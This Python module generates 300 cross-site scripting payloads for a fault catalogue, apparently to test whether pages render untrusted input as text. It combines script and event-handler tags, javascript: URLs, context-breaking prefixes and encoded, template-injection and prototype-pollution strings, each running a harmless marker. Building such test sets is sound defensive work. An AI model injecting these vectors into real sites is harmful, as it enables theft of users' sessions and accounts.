"""300 texts that would run as code in a page that took them for anything but text (fault catalogue D7, F10 to F12)."""

from __future__ import annotations

from typing import Final

FLAG: Final = "globalThis.__ran=1"

TAGS: Final = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:text/javascript,{}></script>", "<img src=x onerror={}>",
    "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<math href=javascript:{}>x</math>", "<form action=javascript:{}><input type=submit>",
    "<button formaction=javascript:{}>x</button>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<details open ontoggle={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<marquee onstart={}>", "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<div style='background:url(javascript:{})'>",
    "<xss id=x tabindex=1 onfocus={}></xss>", "<keygen autofocus onfocus={}>", "<isindex action=javascript:{} type=image>",
    "<table background=javascript:{}>", "<a xlink:href=javascript:{}>x</a>", "<svg><use href='data:image/svg+xml,<svg onload={}>'/>",
)  # fmt: skip
BREAKS: Final = (
    "\"><{0}", "'><{0}", "</textarea>{0}", "</title>{0}", "</script>{0}", "--><!-- {0}", "]]>{0}", "{0}\u2028{0}",
)  # fmt: skip
PLAIN: Final = (
    "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "#{{{}}}", "<%= {} %>", "{{{{{}}}}}", "'-({})-'", "\"-({})-\"", "`${{{}}}`", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E", "\ufeff<script>{}</script>", "__proto__.x={}",
    "\u202e<script>{}</script>", "jav&#x09;ascript:{}", "&#106;avascript:{}", "//evil.example/{}", "on\x0bload={}",
)  # fmt: skip
COUNT: Final = 300


def payloads() -> list[str]:
    """Exactly 300 different texts, the same each time."""
    made = [tag.format(FLAG) for tag in TAGS] + [plain.format(FLAG) for plain in PLAIN]
    for tag in TAGS:
        whole = tag.format(FLAG)
        made += [one.format(whole.lstrip("<") if one.endswith("<{0}") else whole) for one in BREAKS]
    found = [one for one in dict.fromkeys(made) if "\x0b" not in one]
    return found[:COUNT]
